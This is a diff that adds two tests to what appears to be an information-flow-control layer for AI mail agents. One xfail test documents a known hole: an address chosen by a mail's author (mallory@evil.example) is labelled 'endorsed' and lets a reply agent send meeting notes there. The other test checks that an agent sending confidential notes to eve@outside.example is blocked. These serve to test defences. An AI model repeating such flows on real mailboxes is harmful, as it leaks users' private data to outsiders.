@@ -460,3 +460,38 @@ def test_kept_answers_do_not_make_a_large_call_hundreds_of_times_slower_to_decid
             assert all(x.allowed for x in d)
             took.append(min(x.audit["authz_us"] for x in d))
     assert took[1] < max(20 * took[0], 20_000), took  # microseconds
+
+
+@pytest.mark.xfail(strict=True, reason="HOLE: `endorsed` does not say which schema vouched for it: a sink rule meant "
+                                       "for a choice among trusted contacts accepts a free pattern answer too")
+def test_an_endorsed_recipient_rule_meant_for_a_choice_of_contacts_refuses_a_free_pattern_answer(h):
+    """The README: a reply may go to an endorsed recipient only where the enum was drawn from trusted data.
+    The operator writes ``mail.send: {ifc: {args: {to: endorsed}}}`` for the reply agent, whose model asks
+    for the recipient with an enum of its contacts. A model that instead asks with a pattern (a natural
+    choice: "an e-mail address") gets the address the mail's author wrote, endorsed, and the reply goes
+    there: the label cannot tell a choice among known contacts from a free destination."""
+    h.add_agent(policy("replier", **{"mail.send": {"effect": "write", "ifc": {"args": {"to": "endorsed"}}}}))
+    mail = h.call("replier", "mail.read").value
+    contacts = {"enum": ["alice@corp.example", "bob@corp.example"]}
+    assert ask(h, "replier", mail, "Who asked? (contacts)", contacts, "alice@corp.example").allowed
+    assert h.call("replier", "mail.send", {"to": "alice@corp.example", "body": "10am"}).allowed  # the benign use
+    email = {"type": "string", "pattern": "[a-z.]{1,30}@[a-z.]{1,30}", "maxLength": 64}
+    got = ask(h, "replier", mail, "Who asked? (address)", email, "mallory@evil.example")
+    assert got.allowed and got.outcome["label"]["integrity"] == "endorsed"
+    d = h.call("replier", "mail.send", {"to": "mallory@evil.example", "body": "the meeting notes"})
+    assert d.code == "FLOW_DENIED", (d, d.audit and d.audit.get("flow"))
+
+
+def test_a_confidential_answer_a_delegate_got_stops_a_sibling_made_before_it_from_sending_it_out(h):
+    """The helper asks about the banker's private notes (passed to it); a sibling delegated earlier, whose
+    context is still public, writes the answer to an outside address: the answer's readers come with it."""
+    sibling = h.delegate("banker", "sibling")
+    notes = h.call("banker", "notes.read").value
+    child = h.delegate("banker", "helper", handles=[notes])
+    got = ask(h, "helper", notes, "Launch city?", {"type": "string", "pattern": "[A-Za-z]{3,20}", "maxLength": 20},
+              "Reykjavik", token=child.token)
+    assert got.outcome["label"]["readers"] == [["*@corp.example"]]
+    d = h.call("sibling", "mail.send", {"to": "eve@outside.example", "body": "launch in REYKJAVIK"},
+               token=sibling.token)
+    assert d.code == "FLOW_DENIED" and "readers" in d.audit["flow"]["rule"], d
+    assert h.call("sibling", "mail.send", {"to": "eve@outside.example", "body": "hello"}, token=sibling.token).allowed
